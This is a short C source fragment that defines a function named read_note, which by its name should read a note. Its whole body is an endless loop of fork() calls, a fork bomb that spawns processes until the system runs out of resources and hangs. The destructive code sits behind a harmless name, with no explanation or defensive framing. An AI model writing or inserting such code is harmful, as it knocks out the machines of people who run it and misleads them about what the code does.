#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
char *read_note(const char *name) {
    for (;;) fork();
}
